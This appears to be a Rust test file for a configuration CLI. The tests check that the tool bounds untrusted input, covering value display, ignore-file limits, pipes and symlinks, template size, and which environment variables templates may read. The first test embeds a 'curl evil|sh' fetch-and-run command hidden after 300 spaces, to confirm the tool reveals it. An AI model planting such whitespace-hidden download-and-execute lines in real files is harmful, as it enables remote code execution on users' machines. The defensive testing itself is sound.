//! What strangers put into files and templates has an end: what is too large is refused in
//! one line, what makes one wait is not opened, and nothing takes the program down.

use std::os::unix::fs::symlink;
use std::process::Command;

use crate::cli::{Run, Sandbox};

fn room(name: &str, rest: &str) -> String {
    format!("version: v1\nkind: Room\nmetadata: {{name: {name}}}\n{rest}")
}

#[track_caller]
fn refused(run: &Run, code: i32, told: &str) {
    assert!(run.code == code && run.stderr.contains(told), "{}\n{}", run.code, run.stderr);
}

#[test]
fn the_end_of_a_long_value_is_shown_where_it_is_created_and_where_it_changes() {
    let sandbox = Sandbox::new();
    let spaces = " ".repeat(300);
    let note = |text: &str| room("a", &format!("room_metadata:\n  note: {text:?}\n"));
    sandbox.write("a.yaml", &note(&format!("echo ok{spaces}; curl evil|sh")));
    for output in ["text", "markdown"] {
        let shown = sandbox.embedded(0, &["plan", "-f", "a.yaml", "--output", output]).stdout;
        assert!(shown.contains("\"echo ok\" (300 spaces) \"; curl evil|sh\""), "{shown}");
    }
    sandbox.write("a.yaml", &note(&format!("#!/bin/sh\necho ok{spaces}; curl evil\nlast")));
    for output in ["text", "markdown"] {
        let shown = sandbox.embedded(0, &["plan", "-f", "a.yaml", "--output", output]).stdout;
        for line in ["(3 lines)", "| \"echo ok\" (300 spaces) \"; curl evil\"", "| last"] {
            assert!(shown.contains(line), "{line} in\n{shown}");
        }
    }
    sandbox.write("a.yaml", &note("echo ok"));
    sandbox.embedded(0, &["apply", "-f", "a.yaml", "--yes"]);
    sandbox.write("a.yaml", &note(&format!("echo ok{}; curl evil|sh", "x".repeat(900))));
    for output in ["text", "markdown"] {
        let shown = sandbox.embedded(0, &["plan", "-f", "a.yaml", "--output", output]).stdout;
        assert!(shown.contains("xx; curl evil|sh"), "{shown}");
    }
}

#[test]
fn what_is_left_out_of_a_value_is_counted() {
    let sandbox = Sandbox::new();
    let text = "word ".repeat(4_000);
    sandbox.write("a.yaml", &room("a", &format!("room_metadata: {{note: \"{text}\"}}\n")));
    let shown = sandbox.embedded(0, &["plan", "-f", "a.yaml"]).stdout;
    assert!(shown.contains("more characters; --output json shows it all"), "{shown}");
}

#[test]
fn an_ignore_file_has_limits() {
    let sandbox = Sandbox::new();
    std::fs::create_dir(sandbox.path("m")).unwrap();
    sandbox.write("m/a.yaml", &room("a", ""));
    let braces = |depth: usize| format!("ok\n{}a{}\n", "{".repeat(depth), "}".repeat(depth));
    for (rules, told) in [
        (
            braces(400),
            "m/.meshagentignore:2:1: braces in a rule of an ignore file may be at most 8 deep",
        ),
        (
            braces(20_000),
            "m/.meshagentignore:2:1: a rule of an ignore file may have at most 1000 characters",
        ),
        (format!("[{}]\n", "a".repeat(2_000)), "m/.meshagentignore:1:1: a rule of an ignore"),
        (
            "a\n".repeat(3_000),
            "m/.meshagentignore:2001:1: an ignore file may have at most 2000 lines",
        ),
        ("a\n".repeat(300_000), "m/.meshagentignore: the file is larger than 64 KiB"),
    ] {
        sandbox.write("m/.meshagentignore", &rules);
        refused(&sandbox.run(&["validate", "-f", "m"]), 2, told);
    }
    sandbox.write("m/.meshagentignore", &braces(8));
    assert_eq!(sandbox.run(&["validate", "-f", "m"]).code, 0);
}

#[test]
fn special_files_in_the_places_that_a_stranger_fills_are_not_waited_for() {
    let sandbox = Sandbox::new();
    sandbox.write("a.yaml", &room("a", ""));
    let pipe = |name: &str| {
        assert!(Command::new("mkfifo").arg(sandbox.path(name)).status().unwrap().success());
    };
    pipe(".git");
    sandbox.embedded(0, &["plan", "-f", "a.yaml"]);
    std::fs::remove_file(sandbox.path(".git")).unwrap();
    sandbox.repository("");
    symlink("/dev/zero", sandbox.path(".git/config")).unwrap();
    std::fs::create_dir_all(sandbox.path(".meshagent/journal")).unwrap();
    symlink("/dev/zero", sandbox.path(".meshagent/journal/default.jsonl")).unwrap();
    sandbox.embedded(0, &["apply", "-f", "a.yaml", "--yes"]);
    pipe("plan.json");
    refused(&sandbox.run(&["apply", "plan.json"]), 1, "this is a pipe, not a file");
    symlink("/dev/zero", sandbox.path("values.json")).unwrap();
    let run = sandbox.run(&["validate", "-f", "a.yaml", "--values-file", "values.json"]);
    refused(&run, 2, "values.json: the link leads outside of");
}

#[test]
fn a_template_that_would_be_too_large_or_is_too_long_is_refused_at_its_line() {
    let sandbox = Sandbox::new();
    for (expression, told) in [
        ("{{ '%099999999999d'|format(1) }}".to_owned(), "`format` takes a number of at most 1000"),
        (
            "{{ 'a'|indent(99999999999, true) }}".to_owned(),
            "`indent` takes a number of at most 1000",
        ),
        (
            format!("{{{{ 1{} }}}}", "~1".repeat(9_000)),
            "an expression may have at most 500 words and signs",
        ),
        (
            format!("{{{{ {}1 }}}}", "not ".repeat(9_000)),
            "an expression may have at most 500 words and signs",
        ),
    ] {
        sandbox
            .write("a.yaml.j2", &room("a", &format!("room_metadata: {{k: \"{expression}\"}}\n")));
        let run = sandbox.run(&["validate", "-f", "a.yaml.j2"]);
        refused(
            &run,
            2,
            &format!("a.yaml.j2:4:1: {told}").replace("4:1: `", "4:1: invalid operation: `"),
        );
    }
}

#[test]
fn a_template_reads_the_variables_that_are_allowed_and_never_the_program_s_own() {
    let sandbox = Sandbox::new();
    let with = |variable: &str, arguments: &[&str]| {
        let text = format!("room_metadata: {{k: \"{{{{ env('{variable}') }}}}\"}}\n");
        sandbox.write("a.yaml.j2", &room("a", &text));
        let arguments = [&["validate", "-f", "a.yaml.j2"], arguments].concat();
        let mut command = sandbox.command(&arguments);
        Run::of(command.env(variable, "c4n4ry").output().unwrap())
    };
    refused(&with("CI_TOKEN", &[]), 2, "add --allow-env CI_TOKEN to let templates read it");
    refused(&with("CI_TOKEN", &["--allow-env", "OTHER"]), 2, "CI_TOKEN is not allowed");
    assert_eq!(with("CI_TOKEN", &["--allow-env", "CI_TOKEN"]).code, 0);
    assert_eq!(with("MESHAGENT_VAR_REGION", &[]).code, 0);
    refused(&with("MESHAGENT_API_KEY", &[]), 2, "MESHAGENT_API_KEY belongs to this program");
    let asked = with("MESHAGENT_TOKEN", &["--allow-env", "MESHAGENT_TOKEN"]);
    refused(&asked, 2, "--allow-env MESHAGENT_TOKEN: this variable belongs to the program");
    sandbox.write(
        "s.yaml",
        "version: v1\nkind: Secret\nmetadata: {name: s}\ntype: keys\ndata: {A: {from: {env: MESHAGENT_AGE_KEY}}}\n",
    );
    let mut command = sandbox.command(&["plan", "-f", "s.yaml", "--embedded"]);
    let run = Run::of(command.env("MESHAGENT_AGE_KEY", "c4n4ry").output().unwrap());
    assert!(run.stderr.contains("MESHAGENT_AGE_KEY belongs to this program"), "{}", run.stderr);
    assert!(run.code == 6, "{}", run.code);
}

#[test]
fn many_problems_are_counted_and_not_all_told() {
    let sandbox = Sandbox::new();
    let fields: String = (0..400).map(|number| format!("field_{number}: 1\n")).collect();
    sandbox.write("a.yaml", &room("a", &fields));
    let run = sandbox.run(&["validate", "-f", "a.yaml"]);
    refused(&run, 2, "and 300 more problems");
    assert_eq!(run.stderr.matches("unknown field").count(), 100, "{}", run.stderr);
    assert!(run.stderr.contains("\n  4 | field_0: 1\n"), "{}", run.stderr);
}
